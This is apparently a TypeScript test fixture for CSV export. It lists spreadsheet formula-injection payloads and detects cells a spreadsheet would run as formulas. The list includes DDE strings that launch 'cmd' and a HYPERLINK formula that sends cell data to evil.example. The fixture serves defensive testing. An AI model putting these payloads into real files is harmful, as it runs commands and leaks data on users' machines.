import { spawnSync } from 'node:child_process';
import type { Cell, Table } from '../../../main/io/report/tables';

// Text people type or import that a spreadsheet would run, alone or once split on ";" or TAB.
export const HOSTILE = [
  '=1+1',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  "x;=cmd|' /C calc'!A0",
  "x\t=cmd|' /C calc'!A0",
  'x;"=cmd"',
  'x;"""=cmd',
  ';=x',
  ';;=x;+y',
  'first line\n=cmd',
  'first line\r\n-cmd',
  'a,b;@SUM(1)',
  'wink ;-)',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  'x;',
  '"=quoted"',
  '-3',
  '  =1+1',
  'x; =cmd',
  'x;" =cmd"',
];

/** The hostile texts in a table with numbers (one negative), as reports and notes tables are. */
export const hostileTable: Table = {
  name: 'hostile',
  title: 'Hostile',
  header: ['Text', '=Header;+x', 'Score', 'After'],
  // Each hostile text in column A and again after a number, so it is never the first thing on a line only.
  rows: HOSTILE.map((text): Cell[] => [text, text, -3, text]).concat([
    ['plain', null, 2.5, ''],
    ['x;', 'y', -0.5, 'x;'],
  ]),
};

/** The list separators Excel uses for .csv, depending on the reader's locale. */
export const SEPARATORS = [',', ';', '\t'] as const;

/**
 * Reads CSV bytes the way a spreadsheet in a locale with `separator` would, using Python's csv
 * module (Excel dialect, not strict) as a reader that shares no code with ours.
 */
export function readCsvAs(bytes: Uint8Array, separator: (typeof SEPARATORS)[number]): string[][] {
  const script = [
    'import csv, io, json, sys',
    "text = sys.stdin.buffer.read().decode('utf-8-sig')",
    "rows = list(csv.reader(io.StringIO(text, newline=''), delimiter=sys.argv[1]))",
    'sys.stdout.write(json.dumps(rows))',
  ].join('\n');
  const r = spawnSync('python3', ['-c', script, separator], { input: bytes, encoding: 'utf8' });
  if (r.status !== 0) throw new Error(`python3 csv reader failed: ${r.stderr}`);
  return JSON.parse(r.stdout) as string[][];
}

/** A plain number as we write numbers: spreadsheets read it as a value, never as a formula. */
const PLAIN_NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;

/**
 * Cells a spreadsheet could run as a formula: they start with TAB or CR, or with = + - @ after any
 * white space (LibreOffice's "trim spaces" import option drops it first), and are not a plain number.
 */
export function formulaCells(rows: string[][]): string[] {
  return rows.flat().filter((cell) => /^[\t\r]|^\s*[=+\-@]/.test(cell) && !PLAIN_NUMBER.test(cell.trim()));
}
